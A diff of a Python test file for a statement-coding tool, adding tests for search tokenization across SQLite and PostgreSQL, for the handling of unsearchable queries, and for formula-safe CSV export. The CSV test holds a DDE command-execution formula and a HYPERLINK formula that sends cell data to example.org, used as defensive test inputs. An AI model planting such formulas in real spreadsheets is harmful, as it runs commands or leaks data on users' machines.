@@ -2,18 +2,35 @@
 
 from __future__ import annotations
 
+import csv
+import dataclasses
+import io
+import json
+import sqlite3
 from collections import Counter
 
+import psycopg
 import pytest
+from click.testing import CliRunner
 
 from postgres_server import postgres_url, store_url  # noqa: F401 (fixtures)
+from tealeaves import tables
+from tealeaves.analysis.escalation import escalation_codes
+from tealeaves.cli import cli
 from tealeaves.io.readers import read_text
 from tealeaves.models import (
-    Actor, DocumentResult, InputError, MixedMessage, Span, Standoff, Statement, Warning,
+    Actor,
+    DocumentResult,
+    InputError,
+    MixedMessage,
+    Span,
+    Standoff,
+    Statement,
+    Warning,
 )
 from tealeaves.pipeline import analyze_documents
-from tealeaves.analysis.escalation import escalation_codes
-from tealeaves.store.core import Store, snippet_pieces
+from tealeaves.sinks.output import FORMULA_STARTS
+from tealeaves.store.core import Store, UnsearchableQuery, snippet_pieces
 
 # Articles written for these tests; each sentence carries one statement.
 MONDAY = ("Moscow — Deputy minister Ivan Petrov warned that troops would stay near the border. "
@@ -97,8 +114,10 @@ def test_records_round_trip_unchanged(store, coded, parsed):
 
 
 def test_replacing_a_document_keeps_one_copy(store, coded):
-    store.add(coded[0], pipeline_version="v2")
+    assert store.add(coded[0], pipeline_version="v2") is False  # replaced, not added
     assert list(store.results()) == [coded[1], coded[0]]
+    store.delete(coded[0].document.id)
+    assert store.add(coded[0], pipeline_version="v2") is True
     assert store.stats()["tables"]["statements"] == sum(len(r.statements) for r in coded)
 
 
@@ -235,7 +254,7 @@ def test_readonly_store_refuses_writes(store_url, coded):  # noqa: F811
         writer.add(coded[0], pipeline_version="test")
     with Store.open(store_url, readonly=True) as reader:
         assert list(reader.results()) == [coded[0]]
-        with pytest.raises(Exception):
+        with pytest.raises((sqlite3.Error, psycopg.Error), match="(?i)read.?only"):
             reader.add(coded[1], pipeline_version="test")
 
 
@@ -323,3 +342,126 @@ def test_a_store_older_than_cross_document_mixed_messages_reads_none(store_url, 
         migrated.replace_cross_mixed_messages([])
         assert migrated.cross_mixed_messages() == []
         assert "cross_document_mixed_messages" in {r["name"] for r in migrated.db.query('SELECT "name" FROM migrations')}
+
+
+# --- search terms: one tokenizer for both backends (issue 23, item 3) -----------------------
+
+# Sentences written for these tests, each one statement: apostrophes straight and curly, words
+# that stem alike on one stemmer only (general, generous), stop words, hyphens, accents.
+WORDING = ("Minister Ivan Petrov said Moscow won’t withdraw the troops. "
+           "Petrov also said the army won't stay forever. "
+           "Ambassador Jane Miller said her team won the first round. "
+           "Miller said the general mood was generous and calm. "
+           "Miller added that U.S.-Russia de-escalation talks would résumé soon. "
+           "Sidorov said the red line was not for sale.")
+NO_WORD_QUERIES = ['"', "*", "(((", "^", ":", "\\", "%", "\x00", "😀", "\u202e", "-", "'", "_", "“”", '" * "']
+WORD_QUERIES = ["won't", "won’t", "won", "WON'T withdraw", "general", "generous", "the", "U.S.", "us",
+                "de-escalation", "resume", "résumé", "red line", "“red line”", "not", "said*", "NEAR(troops",
+                "ultimatum\x00", "wont", "t"]
+
+
+@pytest.fixture(scope="module")
+def wording() -> DocumentResult:
+    speakers = [PETROV, PETROV, MILLER, MILLER, MILLER, SIDOROV]
+    return _coded(WORDING, "2022-01-12", "Gazette", speakers, ["reassure", None, None, None, "engage", "deny"])
+
+
+def test_a_query_without_a_letter_or_digit_is_refused_plainly(store_url, wording):  # noqa: F811
+    with Store.open(store_url) as store:
+        store.add(wording, pipeline_version="test")
+        for query in NO_WORD_QUERIES:
+            with pytest.raises(UnsearchableQuery, match="nothing to search for"):
+                store.search(query)
+            with pytest.raises(UnsearchableQuery):
+                store.facets(query)
+        assert len(store.search("   ")) == len(wording.statements)  # no query at all lists every statement
+
+
+def test_both_backends_find_the_same_statements(postgres_url, tmp_path, wording):  # noqa: F811
+    found = {}
+    for name, url in (("sqlite", str(tmp_path / "corpus.db")), ("postgresql", _new_database(postgres_url))):
+        with Store.open(url) as store:
+            store.add(wording, pipeline_version="test")
+            found[name] = {query: [hit["id"] for hit in store.search(query)] for query in WORD_QUERIES}
+            marked = {query: {piece.lower() for hit in store.search(query)
+                              for piece, is_hit in snippet_pieces(hit["snippet"]) if is_hit} for query in ("troops",)}
+            assert marked == {"troops": {"troops"}}, name
+    assert found["sqlite"] == found["postgresql"]
+    ids = [s.id for s in wording.statements]
+    assert found["sqlite"]["won't"] == found["sqlite"]["won’t"] == ids[:2]  # not "won the first round"
+    assert found["sqlite"]["won"] == ids[:3]
+    assert found["sqlite"]["the"] == [ids[i] for i in (0, 1, 2, 3, 5)]  # a stop word is a word like any other
+    assert found["sqlite"]["résumé"] == found["sqlite"]["resume"] == [ids[4]]
+    assert found["sqlite"]["red line"] == found["sqlite"]["“red line”"] == [ids[5]]
+
+
+def _new_database(admin_url: str) -> str:
+    """A new database on the test server (dropped with the server at the end of the session)."""
+    import uuid
+    from urllib.parse import urlsplit
+
+    import psycopg
+
+    name = "tealeaves_test_" + uuid.uuid4().hex[:12]
+    with psycopg.connect(admin_url, autocommit=True) as connection:
+        connection.execute(f'CREATE DATABASE "{name}"')
+    return urlsplit(admin_url)._replace(path="/" + name).geturl()
+
+
+@pytest.mark.parametrize("query", ["(((", '"', "\x00", "😀", "\u202e"])
+def test_the_cli_says_a_query_has_no_word_to_search_for(store_url, wording, query):  # noqa: F811
+    with Store.open(store_url) as store:
+        store.add(wording, pipeline_version="test")
+    result = CliRunner().invoke(cli, ["search", query, "--db", store_url])
+    assert result.exit_code == 1, result.output
+    assert result.stderr.startswith("error: nothing to search for in ") and "letters or digits" in result.stderr
+    assert "fts5" not in result.stderr and "Traceback" not in result.stderr
+    found = CliRunner().invoke(cli, ["search", f"{query} troops", "--db", store_url, "--format", "json"])
+    assert [row["id"] for row in json.loads(found.stdout)] == [wording.statements[0].id]
+
+
+def test_a_postgresql_store_indexed_with_english_words_is_indexed_again(store_url, wording):  # noqa: F811
+    """Stores made before both backends shared one tokenizer get its terms when next opened to write."""
+    with Store.open(store_url) as store:
+        store.add(wording, pipeline_version="test")
+        if store.db.name == "postgresql":
+            store.db.execute("UPDATE statements_fts SET tsv = to_tsvector('english', body)")
+        store.db.execute("DELETE FROM migrations WHERE name = 'search_terms_of_sqlite'")
+    with Store.open(store_url) as store:
+        assert len(store.search("the")) == 5  # PostgreSQL's English configuration drops "the"
+
+
+# --- CSV a spreadsheet can open safely (issue 23, item 7) -----------------------------------
+
+FORMULA_OUTLET = "=cmd|' /C calc'!A0"
+
+
+def _cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def test_every_csv_output_writes_formulas_as_text(store_url, tmp_path):  # noqa: F811
+    from fastapi.testclient import TestClient
+
+    from tealeaves.sinks.export import read_export
+    from tealeaves.web.app import create_app
+
+    hostile = _coded(TUESDAY, "2022-01-11", FORMULA_OUTLET, [SIDOROV, SIDOROV], ["engage", None])
+    hostile = dataclasses.replace(hostile, document=dataclasses.replace(
+        hostile.document, title='=HYPERLINK("http://example.org/?"&A1, "open")'))
+    with Store.open(store_url) as store:
+        store.add(hostile, pipeline_version="test")
+    outputs = {"search -f csv": CliRunner().invoke(cli, ["search", "", "--db", store_url, "-f", "csv"]).stdout}
+    client = TestClient(create_app(store_url), base_url="http://127.0.0.1")
+    for page in ("/documents", "/search"):
+        outputs[page] = client.get(page, params={"format": "csv"}).text
+    assert CliRunner().invoke(cli, ["export", "--db", store_url, "--format", "csv",
+                                    "--out", str(tmp_path / "csv")]).exit_code == 0
+    outputs |= {path.name: path.read_text("utf-8") for path in (tmp_path / "csv").glob("*.csv")}
+    for name in ("search -f csv", "/documents", "/search", "documents.csv"):
+        assert "'" + FORMULA_OUTLET in _cells(outputs[name]), name
+    for name, text in outputs.items():
+        assert [cell for cell in _cells(text) if cell[:1] in FORMULA_STARTS] == [], name
+    exported = read_export(tmp_path / "csv", "csv")  # a round trip gives back the very titles
+    with Store.open(store_url, readonly=True) as store:
+        assert tables.results_from_rows(exported, {}) == list(store.results()) == [hostile]
